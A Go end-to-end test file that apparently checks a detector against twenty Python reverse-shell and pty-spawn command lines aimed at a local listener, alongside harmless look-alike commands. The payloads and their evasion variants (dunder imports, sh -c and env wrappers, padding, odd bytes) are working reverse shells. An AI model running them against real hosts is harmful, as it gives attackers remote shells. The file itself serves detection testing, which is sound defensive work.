//go:build e2e

package e2e

import (
	"context"
	"fmt"
	"net"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// attack is a command line with exactly one execution that must alert: the one with marker in its
// arguments and Python as its executable.
type attack struct {
	name   string
	argv   []string
	python []string // the arguments of that execution, where they are not argv
}

// lines is how many alerts the attack gives, of one incident: an interactive shell without a terminal is one of its own.
func (a attack) lines() int {
	if a.name == "subprocess" {
		return 2
	}
	return 1
}

func (a attack) want() []string {
	if a.python != nil {
		return a.python
	}
	return a.argv
}

// marker makes an execution findable; Python ignores it as a string of its own.
func marker(kind string, i int) string { return fmt.Sprintf("'%s-%03d';", kind, i) }

// attacks are twenty different Python reverse shells and pty spawns, to a listener on these ports.
func attacks(port4, port6 int) []attack {
	const dup = `[os.dup2(s.fileno(),f) for f in (0,1,2)];`
	con := fmt.Sprintf(`s=socket.socket();s.connect(("127.0.0.1",%d));`, port4)
	six := fmt.Sprintf(`s=socket.socket(socket.AF_INET6);s.connect(("::1",%d,0,0));`, port6)
	code := []struct {
		name, code string
		argv       func(code string) attack
	}{
		{"classic", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh")`, nil},
		{"other import order", `import pty,socket,os;` + con + dup + `pty.spawn("sh")`, nil},
		{"subprocess", `import socket,subprocess;` + con + `subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())`, nil},
		{"three dup2", `import socket,os;` + con + `os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty;pty.spawn("/bin/bash")`, nil},
		{"exec family", `import socket,os;` + con + dup + `os.execl("/bin/sh","sh")`, nil},
		{"os.system", `import socket,os;` + con + dup + `os.system("/bin/sh")`, nil},
		{"ipv6", `import socket,os,pty;` + six + dup + `pty.spawn("/bin/sh")`, nil},
		{"dunder import", `s=__import__("socket").socket();s.connect(("127.0.0.1",` + fmt.Sprint(port4) + `));o=__import__("os");[o.dup2(s.fileno(),f) for f in (0,1,2)];__import__("pty").spawn("/bin/sh")`, nil},
		{"from import", "from socket import *\nfrom os import *\nfrom pty import spawn\ns=socket();s.connect((\"127.0.0.1\"," + fmt.Sprint(port4) + "))\n[dup2(s.fileno(),f) for f in (0,1,2)]\nspawn(\"/bin/sh\")", nil},
		{"pty only", `import pty; pty.spawn("/bin/true")`, nil},
		{"pty import spawn", `from pty import spawn; spawn("/bin/true")`, nil},
		{"pty of bash", `import pty;pty.spawn(["/bin/bash","-c","exit"])`, nil},
		{"behind sh -c", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh")`, func(c string) attack {
			return attack{argv: []string{"sh", "-c", "exec python3 -c \"$0\"", c}, python: []string{"python3", "-c", c}}
		}},
		{"behind env", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh")`, func(c string) attack {
			return attack{argv: []string{"env", "A=b", "python3", "-c", c}, python: []string{"python3", "-c", c}}
		}},
		{"20 KiB argument", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh") #` + strings.Repeat("padding ", 2560), nil},
		{"empty argument", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh")`, func(c string) attack {
			return attack{argv: []string{"python3", "-c", c, "", "x"}}
		}},
		{"not UTF-8", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh")`, func(c string) attack {
			return attack{argv: []string{"python3", "-c", c, "\xff\xfe\x80"}}
		}},
		{"control bytes", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh")`, func(c string) attack {
			return attack{argv: []string{"python3", "-c", c, "\x1b[2J\r\n\x1d\x01", `"'\`}}
		}},
		{"options before -c", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh")`, func(c string) attack {
			return attack{argv: []string{"python3", "-I", "-u", "-c", c}}
		}},
		{"3,000 arguments", `import socket,os,pty;` + con + dup + `pty.spawn("/bin/sh")`, func(c string) attack {
			return attack{argv: append([]string{"python3", "-c", c}, strings.Fields(strings.Repeat("word ", 3000))...)}
		}},
	}
	var all []attack
	for i, c := range code {
		a := attack{argv: []string{"python3", "-c", marker("attack", i) + c.code}}
		if c.argv != nil {
			a = c.argv(marker("attack", i) + c.code)
		}
		a.name = c.name
		all = append(all, a)
	}
	return all
}

// benign returns n different harmless command lines, many of which mention what attacks do.
func benign(n int) [][]string {
	kinds := []func(m string) []string{
		func(m string) []string { return []string{"true", m} },
		func(m string) []string { return []string{"python3", "-c", m + "print('hello')"} },
		func(m string) []string { return []string{"python3", "-c", m + "import socket; socket.gethostname()"} },
		func(m string) []string { return []string{"sh", "-c", ": " + m} },
		func(m string) []string {
			return []string{"grep", "-c", "import socket,pty;pty.spawn;s.connect " + m, "/etc/passwd"}
		},
		func(m string) []string { return []string{"echo", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", m} },
		func(m string) []string { return []string{"python3", "-c", m + "import json,sys; json.dumps({'a': 1})"} },
		func(m string) []string { return []string{"ls", "-d", "/", "\xff", ""} },
		func(m string) []string { return []string{"python3", "--version", m} },
		func(m string) []string { return []string{"env", "A=" + m, "id"} },
	}
	var all [][]string
	for i := range n {
		all = append(all, kinds[i%len(kinds)](marker("benign", i)))
	}
	return all
}

// listener accepts what connects, tells each shell to leave, and hangs up. It returns its port.
func listener(t *testing.T, network, address string) int {
	t.Helper()
	l, err := net.Listen(network, address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			fmt.Fprint(c, "exit\nexit\n")
			time.AfterFunc(300*time.Millisecond, func() { c.Close() })
		}
	}()
	return l.Addr().(*net.TCPAddr).Port
}

// execute runs a command to its end, or for at most three seconds: a shell may hang on its terminal.
func execute(argv []string) {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	c := exec.CommandContext(ctx, argv[0], argv[1:]...)
	c.WaitDelay = time.Second
	_ = c.Run() // its exit status says nothing: that it was executed is what counts
}
